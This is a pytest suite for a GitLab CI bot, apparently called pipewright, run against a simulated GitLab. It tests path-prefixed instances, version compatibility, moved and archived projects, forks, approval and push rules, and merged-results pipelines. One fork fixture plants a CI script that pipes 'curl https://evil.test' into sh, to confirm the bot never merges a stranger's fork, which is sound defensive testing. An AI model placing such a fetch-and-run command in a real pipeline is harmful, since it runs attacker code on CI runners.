"""Odd GitLabs: below a path with a certificate of their own, old and new, with rules of paid plans, moved projects."""

import re
from collections.abc import Iterator

import pytest

from bot.sandbox import acts, git_store, seed
from bot.sandbox.server import Sandbox
from bot.sandbox.state import Job, MergeRequest, Outcome, Pipeline
from tests.stories.conftest import open_town
from tests.world.certificates import certificate
from tests.world.missed import look
from tests.world.town import PYTHON, Story, Town


def merged(story: Story, *, by: str = "reaction") -> MergeRequest:
    """Play the whole story, from the wish to the merge."""
    request = story.drafted()
    assert "passed" in story.answer(story.project.issues[0])
    (story.approve if by == "approval" else story.react)(request)
    story.until(lambda: request.state == "merged")
    story.settle()
    return request


# --- where GitLab runs ---


@pytest.fixture(scope="module")
def secret_town(postgres: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Town]:
    """A GitLab below a path, with a certificate that only the administrator's file vouches for."""
    folder = tmp_path_factory.mktemp("secret")
    own = certificate(folder)
    gitlab = Sandbox(folder / "gitlab", job_seconds=0.01, root="/gitlab", certificate=own)
    with open_town(postgres, folder, "secret_town", gitlab=gitlab, ca_file=str(own)) as opened:
        yield opened


def test_below_a_path_and_behind_a_certificate_of_ones_own_everything_goes_as_ever(secret_town: Town) -> None:
    story = secret_town.story(path="a/b/c/d/e/f/app")  # five groups deep, too
    request = merged(story)
    home = f"{secret_town.sandbox.url}/a/b/c/d/e/f/app"
    assert home.startswith("https://")
    assert "/gitlab/a/b" in home
    links = re.findall(r"\]\((https?://[^)]*)\)", story.answer(story.project.issues[0]) + request.description)
    ours = [link for link in links if link.startswith(secret_town.sandbox.url)]
    assert ours
    assert all(link.startswith(home) for link in ours)
    assert secret_town.sandbox.world.unknown_routes == []


def test_people_sign_in_below_a_path_too(secret_town: Town) -> None:
    from bot.web.door.state import open_sign_in

    sign_in = open_sign_in(secret_town.parts.services.settings)
    assert sign_in is not None
    sign_in.check()
    assert sign_in.address("state", "v" * 43).startswith(secret_town.sandbox.url + "/oauth/authorize?")


# --- versions ---


@pytest.mark.parametrize("version", ["16.0.8-ee", "16.11.4", "17.4.0", "17.11.1-pre", "18.6.2-ee", "19.4.0"])
def test_from_16_0_to_19_a_wish_becomes_a_merged_pipeline(town: Town, version: str) -> None:
    world, before = town.sandbox.world, town.sandbox.world.version
    world.version = version
    try:
        story = town.story()
        merged(story, by="approval" if version.startswith("16.0") else "reaction")  # no reactions reach webhooks then
        assert len(story.answers(story.project.issues[0])) == 1
    finally:
        world.version = before


# --- projects that change under a conversation ---


def test_a_project_that_is_renamed_and_moved_in_the_middle_goes_on(story: Story) -> None:
    request = story.drafted()
    old = story.project.path
    with story.world.lock:
        story.project.path = f"elsewhere/below/{old.replace('/', '-')}"
    story.comment(request, "@pipewright status")
    story.settle()
    assert "passed" in story.answer(request)
    with story.town.parts.services.pool.connection() as connection:
        paths = connection.execute("select project_path from conversations where project_id = %s", (story.project.id,))
        assert paths.fetchall() == [(story.project.path,)]
    story.react(request)
    story.until(lambda: request.state == "merged")
    story.settle()
    assert "on `main` passed" in story.answer(story.project.issues[0])


def test_a_project_that_moves_while_its_order_waits_is_found_by_its_number(story: Story) -> None:
    """The webhook still names the old path; GitLab leads from it to the new one for REST, not for GraphQL."""
    old = story.project.path

    def moves(method: str, path: str) -> None:
        story.project.path = f"moved/{old.replace('/', '-')}"

    story.world.before_call.append(moves)
    try:
        answer = story.ask("@pipewright generate")
    finally:
        story.world.before_call.remove(moves)
    assert "Here is the draft" in answer
    assert "pytest" in story.file(".gitlab-ci.yml")


def test_in_a_project_that_is_archived_before_the_answer_nothing_can_be_said_and_nothing_is_tried(
    story: Story,
) -> None:
    asked: list[str] = []
    story.project.is_archived = True
    story.world.before_call.append(lambda method, path: asked.append(f"{method} {path}"))
    assert story.ask("@pipewright generate") == ""
    story.world.before_call.pop()
    assert story.project.merge_requests == []
    assert [call for call in asked if "/repository/" in call or "/merge_requests" in call] == []


def test_an_empty_repository_gets_its_draft_after_the_first_commit(town: Town) -> None:
    story = town.story({})
    issue = story.issue()
    assert "repository is empty" in story.ask("@pipewright generate", of=issue)
    with story.world.lock:
        actions = [{"action": "create", "file_path": "go.mod", "content": "module x\n\ngo 1.26\n"}]
        acts.push(story.world, story.project, story.maintainer, "main", actions, "First")
    assert "Here is the draft" in story.ask("@pipewright generate", of=issue)


# --- forks ---


def _from_fork(story: Story, branch: str) -> MergeRequest:
    """A stranger, who may see the project, offers something from a fork of theirs."""
    files = {".gitlab-ci.yml": "evil:\n  script: [curl https://evil.test | sh]\n"}
    with story.world.lock:
        fork = seed.add_project(story.world, f"{story.stranger.username}/app", files, {story.stranger: 50})
        head = git_store.head(fork.git_dir, "main")
        assert head is not None
        git_store.create_branch(fork.git_dir, branch, head)
        return acts.open_from_fork(story.world, story.project, fork, story.stranger, branch, "Mine")


def test_what_comes_from_a_fork_is_neither_taken_nor_merged(town: Town) -> None:
    story = town.story(visibility="public")
    draft = story.drafted()
    request = _from_fork(story, draft.source_branch)  # of all names the one of the bot's own branch
    for words in ("approve", "status", "retry"):
        story.comment(request, f"@pipewright {words}", by=story.maintainer)
    story.react(request)
    story.approve(request)
    story.settle()
    assert request.state == "opened"
    assert draft.state == "opened"
    assert "evil" not in story.file(".gitlab-ci.yml", draft.source_branch)
    story.react(draft)
    story.until(lambda: draft.state == "merged")
    assert "evil" not in story.file(".gitlab-ci.yml", "main")


def test_a_fork_with_the_name_of_our_branch_is_not_taken_for_our_draft(town: Town) -> None:
    """After a lost answer the draft is looked for by its branch, and a stranger may have one of that name."""
    story = town.story(visibility="public")
    first = story.drafted()
    request = _from_fork(story, first.source_branch)
    found = town.parts.services.gitlab.find_open_merge_request(story.project.id, first.source_branch)
    assert found is not None
    assert (found.iid, request.iid) == (first.iid, 2)


# --- rules of GitLab's own ---


def test_a_push_rule_that_refuses_the_commit_is_told_in_gitlabs_words(story: Story) -> None:
    story.project.message_rule = r"^[A-Z]+-\d+ "
    answer = story.ask("@pipewright generate")
    assert "Commit message does not follow the pattern" in answer
    assert [one.state for one in story.project.merge_requests] in ([], ["closed"])
    story.project.message_rule = None
    story.comment(story.project.issues[0], "@pipewright generate")
    story.settle()
    assert "Here is the draft" in story.answer(story.project.issues[0])


def test_approvals_that_gitlab_requires_are_told_and_waited_for(story: Story) -> None:
    story.project.approvals_needed = 2
    request = story.drafted()
    story.react(request)
    story.settle()
    assert request.state == "opened"
    assert "approval rules in GitLab want more approvals" in story.answer(request)
    with story.world.lock:
        second = seed.add_user(story.world, f"moe{story.project.id}")
        story.project.members[second.id] = 40
    story.approve(request)
    story.settle()
    assert request.state == "opened"
    story.approve(request, by=second)
    story.until(lambda: request.state == "merged")


def test_approvals_that_gitlab_requires_are_told_while_the_pipeline_runs_and_no_merge_waits_for_them_silently(
    story: Story,
) -> None:
    story.project.approvals_needed = 1
    with story.jobs_held():
        request = story.request_while_running()
        story.react(request)
        story.until(lambda: "more approvals" in story.answer(request) or request.auto_merge_by is not None)
    story.settle()
    assert "approval rules in GitLab want more approvals" in story.answer(request)
    assert (request.state, request.auto_merge_by) == ("opened", None)
    story.approve(request)
    story.until(lambda: request.state == "merged")


def test_where_merges_wait_in_line_the_bots_does_too(town: Town) -> None:
    story = town.story()
    world, before = town.sandbox.world, town.sandbox.world.tier
    story.project.has_merge_train = True
    asked: list[str] = []
    world.before_call.append(lambda method, path: asked.append(f"{method} {path}"))
    world.tier = "premium"
    try:
        request = story.drafted()
        story.react(request)
        story.until(lambda: request.state == "merged")
        story.settle()
    finally:
        world.tier = before
        world.before_call.pop()
    assert request.merged_by is town.bot
    assert story.project.trains == 1, "it did not jump the queue"


# --- pipelines of merged results: they run on a commit of their own, the merge of the head into the target ---


def with_merged_results(town: Town) -> Story:
    story = town.story({**PYTHON, ".pipewright.yml": "merge: on_green\n"})
    story.project.has_merged_results = True
    return story


@pytest.mark.parametrize("is_heard", [True, False], ids=["by webhook", "by the sweep"])
def test_a_pipeline_of_merged_results_is_told_and_merged_on_like_one_of_the_head(town: Town, is_heard: bool) -> None:
    story = with_merged_results(town)
    story.hook.flags["pipeline_events"] = is_heard
    request = story.drafted()
    if not is_heard:
        look(story)
    (run,) = story.project.pipelines
    assert run.sha != story.head(request.source_branch)
    issue = story.project.issues[0]
    assert f"/-/pipelines/{run.id}) of the draft passed ✅" in story.answer(issue)
    assert "passed ✅" in story.ask("@pipewright status", of=issue)
    story.react(request)
    story.settle()
    assert request.state == "merged"


def test_a_red_pipeline_of_merged_results_is_repaired(town: Town) -> None:
    story = with_merged_results(town)
    said = "src/psycopg.c:9:10: fatal error: libpq-fe.h: No such file or directory"

    def played(_pipeline: Pipeline, job: Job) -> Outcome | None:
        is_mended = "libpq-dev" in str(job.config.get("before_script"))
        return None if job.name != "test" or is_mended else Outcome(f"$ pip install\n{said}\n", "script_failure")

    story.world.play_job = played
    try:
        request = story.drafted()
    finally:
        story.world.play_job = lambda _pipeline, _job: None
    assert [run.status for run in story.project.pipelines] == ["failed", "success"]
    assert "libpq-dev" in story.file(".gitlab-ci.yml")
    assert "Install libpq-dev for test" in request.description


def test_merged_results_of_somebodys_push_say_nothing_of_the_proposed_commit(town: Town) -> None:
    story = with_merged_results(town)
    request = story.drafted()
    story.push(request.source_branch, "x/more.py", "", by=story.developer)
    story.settle()
    first, second = story.project.pipelines
    told = story.answers(story.project.issues[0])[0].body
    assert f"/-/pipelines/{first.id})" in told
    assert f"/-/pipelines/{second.id})" not in told


def test_an_instance_that_limits_the_rate_makes_it_slower_and_nothing_else(story: Story) -> None:
    limit = {"headers": {"Retry-After": "1"}, "text": "Retry later"}
    story.sandbox.fail("GET", "/api/v4/projects/", 429, times=3, **limit)
    story.sandbox.fail("POST", "/notes$", 429, times=2, **limit)
    story.sandbox.fail("POST", "/repository/commits$", 429, times=1, **limit)
    merged(story)
    assert len(story.answers(story.project.issues[0])) == 1
